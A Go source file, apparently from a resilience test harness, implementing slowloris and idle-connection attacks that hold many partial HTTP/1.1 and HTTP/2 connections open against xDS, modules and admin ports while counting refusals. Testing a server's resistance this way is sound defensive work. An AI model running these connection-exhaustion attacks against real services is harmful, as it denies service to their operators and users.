package main

import (
	"context"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// port returns the port of the i-th connection: the connections go to the three ports in turn.
func (a *attack) port(i int) string { return []string{a.xds, a.modules, a.admin}[i%3] }

// slowloris sends the beginning of a request on each connection, and then a few bytes at a time.
func slowloris(ctx context.Context, a *attack) {
	var open atomic.Int64
	a.each(ctx, func(ctx context.Context, i int) error {
		conn, err := a.dial(ctx, a.port(i))
		if err != nil {
			return err
		}
		defer conn.Close()
		if open.Add(1) >= int64(a.n) {
			a.ready()
		}
		if err := trickle(ctx, conn, i); err != nil {
			a.refused.Add(1)
			return err
		}
		return nil
	})
}

// trickle sends a request that never ends.
func trickle(ctx context.Context, conn net.Conn, i int) error {
	begin, more := "GET /modules/x HTTP/1.1\r\nHost: localhost\r\n", "X-Slow: 1\r\n"
	if i%3 == 0 {
		begin, more = http2.ClientPreface[:3], http2.ClientPreface[3:4]
	}
	if _, err := io.WriteString(conn, begin); err != nil {
		return err
	}
	for rest(ctx, time.Second); ctx.Err() == nil; rest(ctx, time.Second) {
		if _, err := io.WriteString(conn, more); err != nil {
			return err
		}
	}
	return nil
}

// idle opens connections and sends nothing more: to xDS with the beginning of HTTP/2, so the
// server counts them as connections without a stream.
func idle(ctx context.Context, a *attack) {
	var open atomic.Int64
	a.each(ctx, func(ctx context.Context, i int) error {
		var conn net.Conn
		var err error
		if i%3 == 0 {
			var h *h2
			if h, err = a.http2(ctx); err == nil {
				conn = h.conn
			}
		} else {
			conn, err = a.dial(ctx, a.port(i))
		}
		if err != nil {
			return err
		}
		defer conn.Close()
		if open.Add(1) >= int64(a.n) {
			a.ready()
		}
		_, err = io.Copy(io.Discard, conn) // until the server ends it
		a.refused.Add(1)
		return err
	})
}
